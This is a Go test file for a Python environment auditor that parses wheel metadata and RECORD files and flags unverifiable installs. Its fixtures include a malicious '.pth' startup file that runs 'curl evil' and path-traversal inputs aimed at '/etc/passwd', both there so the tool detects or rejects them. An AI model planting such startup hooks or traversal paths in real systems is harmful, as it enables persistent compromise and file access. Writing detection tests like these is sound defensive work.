package pypi_test

import (
	"errors"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/google/go-cmp/cmp"

	"github.com/pyverify/pyverify/pypi"
)

const (
	goodMetadata = "Metadata-Version: 2.1\nName: Demo_Pkg\nVersion: 1.0\nSummary: a\n  continued\n\nlong description: not a header\n"
	goodWheel    = "Wheel-Version: 1.0\nGenerator: bdist_wheel (0.42.0)\nRoot-Is-Purelib: true\nTag: py3-none-any\nTag: py2-none-any\nBuild: 007x\n"
	goodRecord   = "demo/__init__.py,sha256=ypeBEsobvcr6wjGzmiPcTaeG7_gUfE5yuYB3ha_uSLs,1\n" +
		"demo_pkg-1.0.dist-info/RECORD,,\n" +
		"../../../bin/demo,sha256=ypeBEsobvcr6wjGzmiPcTaeG7_gUfE5yuYB3ha_uSLs,1\n" +
		"demo/__pycache__/__init__.cpython-311.pyc,,\n"
)

// venv lays out a virtualenv with one distribution, its files replaced by
// those of over (a nil Data removes one).
func venv(over map[string]*fstest.MapFile) fstest.MapFS {
	di := "lib/python3.11/site-packages/demo_pkg-1.0.dist-info/"
	fsys := fstest.MapFS{
		"pyvenv.cfg":                             {Data: []byte("home = /usr/bin\n")},
		"lib/python3.11/site-packages/demo/x.py": {Data: []byte("a")},
		di + "METADATA":                          {Data: []byte(goodMetadata)},
		di + "WHEEL":                             {Data: []byte(goodWheel)},
		di + "RECORD":                            {Data: []byte(goodRecord)},
		di + "INSTALLER":                         {Data: []byte("pip\n")},
		"lib/python3.11/site-packages/README.txt": {Data: []byte("not a distribution")},
	}
	for k, v := range over {
		if v == nil {
			delete(fsys, di+k)
			continue
		}
		fsys[di+k] = v
	}
	return fsys
}

func TestReadEnvironment(t *testing.T) {
	dists, err := pypi.ReadEnvironment(venv(nil), "v")
	if err != nil {
		t.Fatal(err)
	}
	if len(dists) != 1 {
		t.Fatalf("got %d distributions, want 1", len(dists))
	}
	d := dists[0]
	type view struct {
		Name, Version, Build, Installer, SitePackages, DistInfo, RecordPath string
		Tags                                                                []string
		Paths                                                               []string
		Hashed                                                              []bool
	}
	got := view{Name: d.Name, Version: d.Version, Build: d.Build, Installer: d.Installer, SitePackages: d.SitePackages,
		DistInfo: d.DistInfo, RecordPath: d.RecordPath()}
	for _, tg := range d.Tags {
		got.Tags = append(got.Tags, tg.String())
	}
	for _, e := range d.Record {
		got.Paths = append(got.Paths, e.Path)
		got.Hashed = append(got.Hashed, e.Algorithm != "")
	}
	want := view{Name: "Demo_Pkg", Version: "1.0", Build: "7x", Installer: "pip", SitePackages: "lib/python3.11/site-packages",
		DistInfo:   "lib/python3.11/site-packages/demo_pkg-1.0.dist-info",
		RecordPath: "v/lib/python3.11/site-packages/demo_pkg-1.0.dist-info/RECORD",
		Tags:       []string{"py2-none-any", "py3-none-any"},
		Paths:      []string{"demo/__init__.py", "demo_pkg-1.0.dist-info/RECORD", "../../../bin/demo", "demo/__pycache__/__init__.cpython-311.pyc"},
		Hashed:     []bool{true, false, true, false}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("distribution (-want +got):\n%s", diff)
	}
	r := d.Requirement()
	if r.Text != "Demo_Pkg==1.0" || r.Unsupported != "" || r.Source() != "v/lib/python3.11/site-packages/demo_pkg-1.0.dist-info/RECORD:1" {
		t.Errorf("Requirement() = %q unsupported %q at %s", r.Text, r.Unsupported, r.Source())
	}
	if v, ok := r.Pinned(); !ok || v != "1.0" {
		t.Errorf("Requirement().Pinned() = %q, %v; want an exact pin of 1.0", v, ok)
	}
}

// TestSafeRecordPath: RECORD paths climb out of site-packages to bin/, but
// never out of the environment, and are never absolute.
func TestSafeRecordPath(t *testing.T) {
	d := &pypi.InstalledDist{SitePackages: "lib/python3.11/site-packages"}
	for _, tc := range []struct {
		in   string
		want string
		ok   bool
	}{
		{"demo/x.py", "lib/python3.11/site-packages/demo/x.py", true},
		{"../../../bin/demo", "bin/demo", true},
		{"../../../../etc/passwd", "", false},
		{"/etc/passwd", "", false},
		{`C:\x`, "", false},
		{`demo\x.py`, "", false},
		{"../../..", "", false},
	} {
		got, ok := d.SafeRecordPath(tc.in)
		if got != tc.want || ok != tc.ok {
			t.Errorf("SafeRecordPath(%q) = %q, %v; want %q, %v", tc.in, got, ok, tc.want, tc.ok)
		}
	}
	bare := &pypi.InstalledDist{SitePackages: "."}
	if _, ok := bare.SafeRecordPath("../../../bin/demo"); ok {
		t.Error("a bare site-packages let a RECORD path climb out of it")
	}
}

// TestReadEnvironmentErrors: a malformed dist-info is an input error
// naming its file (and line, where there is one).
func TestReadEnvironmentErrors(t *testing.T) {
	di := "v/lib/python3.11/site-packages/demo_pkg-1.0.dist-info/"
	for _, tc := range []struct {
		name string
		over map[string]*fstest.MapFile
		want string
	}{
		{"metadata without version", map[string]*fstest.MapFile{"METADATA": {Data: []byte("Name: demo\n")}}, di + "METADATA:1: no Version header"},
		{"metadata garbage", map[string]*fstest.MapFile{"METADATA": {Data: []byte("Name: demo\nthis is not a header\n")}}, di + `METADATA:2: not a "Key: value" header`},
		{"bad name", map[string]*fstest.MapFile{"METADATA": {Data: []byte("Name: -demo\nVersion: 1\n")}}, di + `METADATA:1: invalid project name "-demo"`},
		{"no metadata", map[string]*fstest.MapFile{"METADATA": nil}, di + "METADATA: missing"},
		{"no record", map[string]*fstest.MapFile{"RECORD": nil}, di + "RECORD: missing"},
		{"record two fields", map[string]*fstest.MapFile{"RECORD": {Data: []byte("a.py,sha256=x,1\nb.py,1\n")}}, di + "RECORD:1: hash"},
		{"record bad field count", map[string]*fstest.MapFile{"RECORD": {Data: []byte("a.py,,\nb.py,1\n")}}, di + "RECORD:2: want 3 fields"},
		{"record md5", map[string]*fstest.MapFile{"RECORD": {Data: []byte("a.py,md5=1B2M2Y8AsgTpgAmY7PhCfg,0\n")}}, di + `RECORD:1: hash "md5=`},
		{"record absolute", map[string]*fstest.MapFile{"RECORD": {Data: []byte("a.py,,\n/etc/passwd,,\n")}}, di + `RECORD:2: absolute path "/etc/passwd"`},
		{"record quote", map[string]*fstest.MapFile{"RECORD": {Data: []byte("a.py,,\n\"b.py,,\n")}}, di + "RECORD:2: invalid CSV"},
		{"record twice", map[string]*fstest.MapFile{"RECORD": {Data: []byte("a.py,,\na.py,,\n")}}, di + `RECORD:2: "a.py" is listed twice (first at line 1)`},
		{"record size", map[string]*fstest.MapFile{"RECORD": {Data: []byte("a.py,,-1\n")}}, di + `RECORD:1: size "-1"`},
		{"wheel without tag", map[string]*fstest.MapFile{"WHEEL": {Data: []byte("Wheel-Version: 1.0\n")}}, di + "WHEEL:1: no Tag line"},
		{"wheel bad tag", map[string]*fstest.MapFile{"WHEEL": {Data: []byte("Wheel-Version: 1.0\nTag: py3-none\n")}}, di + `WHEEL:2: invalid Tag "py3-none"`},
		{"direct url garbage", map[string]*fstest.MapFile{"direct_url.json": {Data: []byte("{")}}, di + "direct_url.json:1: not a PEP 610 document"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := pypi.ReadEnvironment(venv(tc.over), "v")
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("error %v, want one containing %q", err, tc.want)
			}
		})
	}
}

func TestFindSitePackages(t *testing.T) {
	for _, tc := range []struct {
		name  string
		fsys  fstest.MapFS
		want  []string
		error string
	}{
		{"posix venv", fstest.MapFS{"pyvenv.cfg": {}, "lib/python3.12/site-packages/x.dist-info/METADATA": {}}, []string{"lib/python3.12/site-packages"}, ""},
		{"windows venv", fstest.MapFS{"pyvenv.cfg": {}, "Lib/site-packages/x.dist-info/METADATA": {}}, []string{"Lib/site-packages"}, ""},
		{"site-packages", fstest.MapFS{"x-1.dist-info/METADATA": {}}, []string{"."}, ""},
		{"venv without site-packages", fstest.MapFS{"pyvenv.cfg": {}}, nil, "without lib/python*/site-packages"},
		{"neither", fstest.MapFS{"x.py": {}}, nil, "neither a virtualenv"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := pypi.FindSitePackages(tc.fsys)
			if tc.error != "" {
				if err == nil || !strings.Contains(err.Error(), tc.error) {
					t.Fatalf("error %v, want %q", err, tc.error)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("site-packages (-want +got):\n%s", diff)
			}
		})
	}
}

// TestDirectURL: a distribution installed from a URL, a VCS or a directory
// (editable or not) is an unsupported requirement saying which.
func TestDirectURL(t *testing.T) {
	for _, tc := range []struct{ doc, want string }{
		{`{"url": "file:///src/demo", "dir_info": {"editable": true}}`, "installed in editable mode (direct_url.json: file:///src/demo)"},
		{`{"url": "https://github.com/a/b", "vcs_info": {"vcs": "git", "commit_id": "ab"}}`, "installed from a VCS (git, direct_url.json: https://github.com/a/b)"},
		{`{"url": "https://user:secret@x/demo.whl", "archive_info": {}}`, "installed from a direct URL (direct_url.json: https://***@x/demo.whl)"},
		{`{"url": "file:///src/demo", "dir_info": {}}`, "installed from a local directory (direct_url.json: file:///src/demo)"},
	} {
		dists, err := pypi.ReadEnvironment(venv(map[string]*fstest.MapFile{"direct_url.json": {Data: []byte(tc.doc)}}), "v")
		if err != nil {
			t.Fatal(err)
		}
		if got := dists[0].Requirement().Unsupported; got != tc.want {
			t.Errorf("%s: Unsupported = %q, want %q", tc.doc, got, tc.want)
		}
	}
}

func TestRecordEntryHash(t *testing.T) {
	es, err := pypi.ParseRecord("RECORD", strings.NewReader(goodRecord))
	if err != nil {
		t.Fatal(err)
	}
	if got, want := es[0].Hash(), "sha256=ypeBEsobvcr6wjGzmiPcTaeG7_gUfE5yuYB3ha_uSLs"; got != want {
		t.Errorf("Hash() = %q, want %q", got, want)
	}
	h := es[0].NewHash()
	h.Write([]byte("a"))
	if string(h.Sum(nil)) != string(es[0].Digest) {
		t.Error("the digest of \"a\" differs from the RECORD's")
	}
	var pe *pypi.ParseError
	if _, err := pypi.ParseRecord("RECORD", strings.NewReader(strings.Repeat("x", pypi.MaxRecordSize+1))); !errors.As(err, &pe) {
		t.Errorf("an oversized RECORD gave %v, want a ParseError", err)
	}
}

// TestInstalledLegacyVersion: a version that is not PEP 440 cannot be
// pinned, so the distribution is reported unsupported, not dropped.
func TestInstalledLegacyVersion(t *testing.T) {
	dists, err := pypi.ReadEnvironment(venv(map[string]*fstest.MapFile{"METADATA": {Data: []byte("Name: demo\nVersion: latest\n")}}), "v")
	if err != nil {
		t.Fatal(err)
	}
	if got, want := dists[0].Requirement().Unsupported, `installed version "latest" is not a PEP 440 version`; got != want {
		t.Errorf("Unsupported = %q, want %q", got, want)
	}
}

// TestReadEnvironmentLegacyEggInfo: a distribution installed the legacy
// way (setup.py install or develop: a .egg-info directory or file, no
// RECORD) is importable code too, so it is reported as unsupported rather
// than left out of the audit unseen.
func TestReadEnvironmentLegacyEggInfo(t *testing.T) {
	sp := "lib/python3.11/site-packages/"
	fsys := venv(nil)
	fsys[sp+"legacy-2.0-py3.11.egg-info/PKG-INFO"] = &fstest.MapFile{Data: []byte("Metadata-Version: 1.0\nName: Legacy\nVersion: 2.0\n")}
	fsys[sp+"single-1.0-py3.11.egg-info"] = &fstest.MapFile{Data: []byte("Metadata-Version: 1.0\nName: single\nVersion: 1.0\n")}
	fsys[sp+"odd_name-3-py3.11.egg-info/PKG-INFO"] = &fstest.MapFile{Data: []byte("not metadata")}
	dists, err := pypi.ReadEnvironment(fsys, "v")
	if err != nil {
		t.Fatal(err)
	}
	type view struct{ Name, Text, File, Unsupported string }
	var got []view
	for _, d := range dists {
		r := d.Requirement()
		got = append(got, view{r.Name, r.Text, r.File, r.Unsupported})
	}
	const why = "installed as a legacy .egg-info (setup.py install or develop): it has no RECORD to bind its files to a wheel"
	want := []view{
		{"Demo_Pkg", "Demo_Pkg==1.0", "v/" + sp + "demo_pkg-1.0.dist-info/RECORD", ""},
		{"Legacy", "Legacy==2.0", "v/" + sp + "legacy-2.0-py3.11.egg-info/PKG-INFO", why},
		{"odd_name", "odd_name", "v/" + sp + "odd_name-3-py3.11.egg-info/PKG-INFO", why},
		{"single", "single==1.0", "v/" + sp + "single-1.0-py3.11.egg-info", why},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("distributions (-want +got):\n%s", diff)
	}
}

// TestReadEnvironmentUnownedStartupFiles: a .pth file or sitecustomize.py
// that no RECORD owns runs at every Python start, a classic way to persist
// code in an environment: each is reported as a package of its own that
// cannot be checked, never left out. Owned ones and virtualenv's own are
// not.
func TestReadEnvironmentUnownedStartupFiles(t *testing.T) {
	sp := "lib/python3.11/site-packages/"
	fsys := venv(map[string]*fstest.MapFile{"RECORD": {Data: []byte(goodRecord + "demo.pth,sha256=ypeBEsobvcr6wjGzmiPcTaeG7_gUfE5yuYB3ha_uSLs,1\n")}})
	fsys[sp+"demo.pth"] = &fstest.MapFile{Data: []byte("a")} // owned by demo_pkg's RECORD
	fsys[sp+"evil.pth"] = &fstest.MapFile{Data: []byte("import os; os.system('curl evil')\n")}
	fsys[sp+"sitecustomize.py"] = &fstest.MapFile{Data: []byte("print('hi')\n")}
	fsys[sp+"_virtualenv.pth"] = &fstest.MapFile{Data: []byte("import _virtualenv\n")}
	fsys[sp+"notes.txt"] = &fstest.MapFile{Data: []byte("not run\n")}
	dists, err := pypi.ReadEnvironment(fsys, "v")
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, d := range dists {
		if r := d.Requirement(); r.Unsupported != "" {
			got = append(got, r.Name+" "+r.File)
		}
	}
	want := []string{"evil.pth v/" + sp + "evil.pth", "sitecustomize.py v/" + sp + "sitecustomize.py"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("unowned startup files (-want +got):\n%s", diff)
	}
}
